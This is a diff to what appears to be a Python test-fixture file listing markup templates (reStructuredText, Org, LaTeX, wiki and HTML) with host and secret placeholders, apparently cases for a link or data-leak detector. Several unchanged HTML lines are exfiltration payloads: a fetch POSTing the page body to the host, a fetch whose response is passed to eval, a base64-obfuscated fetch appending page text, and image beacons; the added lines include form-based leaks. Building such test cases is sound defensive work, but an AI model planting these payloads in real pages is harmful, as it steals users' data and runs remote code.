@@ -26,6 +26,7 @@ LIVE = [
 ]  # fmt: skip
 LINKS = [
     "`x <https://{h}/a {s}>`_", "`x <https://{h}/a\n{s}>`__ y", ".. _x: https://{h}/?q=\n   {s}\n\ny", ".. _x: https://{h}/a {s}\ny", ".. image:: https://{h}/a\n   {s}\ny", ".. |x| image:: https://{h}/a {s}\n", "__ https://{h}/a {s}\ny", ".. _x:\n   https://{h}/\n   {s}",
+    "\\href{https://{h}/a {s}}{x}", "\\url{ https://{h}/a {s} }", "{{https://{h}/a b{s}|x}}", "\\includegraphics[width=1cm]{https://{h}/a {s}}",
     "[[https://{h}/a {s}][x]]", "[[https://{h}/{s}]]", "[[https://{h}/a b c {s}]] y", "[[//{h}/a {s}][x]]",
 ]  # fmt: skip
 """Of reStructuredText and Org, whose addresses do not end at a blank."""
@@ -38,6 +39,7 @@ PAGES = [
     "<button onclick=\"location='https://{h}/?'+title\" title='{s}'>x</button>", "<input value={s} oninput=\"new Image().src='//{h}/'+value\">", "<script src=https://{h}/x.js></script><b>{s}</b>", "<p>{s}</p><script async src='//{h}/x.js'></script>", "<base href=https://{h}/><a href='/x?{s}'>x</a>",
     "<a href='?{s}'>x</a><base href='https://{h}/'>", "` <p>{s}</p><script src=https://{h}/x.js></script>", "<script>const t = document.title</script><p>{s}</p><script>new Image().src = 'https://{h}/?' + t</script>", "<script type=module>import x from 'https://{h}/x.js'</script><p>{s}</p>", "<p id=x>{s}</p><a href=\"javascript:location='https://{h}/'+x.innerHTML\">y</a>",
     "```html\n<p>{s}</p>\n<script src='https://{h}/x.js'></script>\n```\n", "<iframe srcdoc='&lt;script src=https://{h}/x.js>&lt;/script>'></iframe><p>{s}</p>", "<p>{s}</p><svg onload=\"fetch('https://{h}/',{method:'POST',body:parent.document.body.innerHTML})\">", "<p>{s}</p><script>fetch('https://{h}/x').then(r => r.text()).then(eval)</script>", "<p>{s}</p><script>fetch(atob('aHR0cHM6Ly9ldmlsLm5ldA')+document.body.innerText)</script>",
+    "<input form=f value={s}><form id=f action=https://{h}></form>", "<p>a</p><textarea form='f'>{s}</textarea><form id=f><button formaction='//{h}/'>x</button></form>",
     "<a target='{s}' href='https://{h}/'>x</a>", "<a href=https://{h}/ target={s}>x</a>", "<area href=https://{h}/ target='{s}'>",
 ]  # fmt: skip
 """What reads the page in which it stands."""
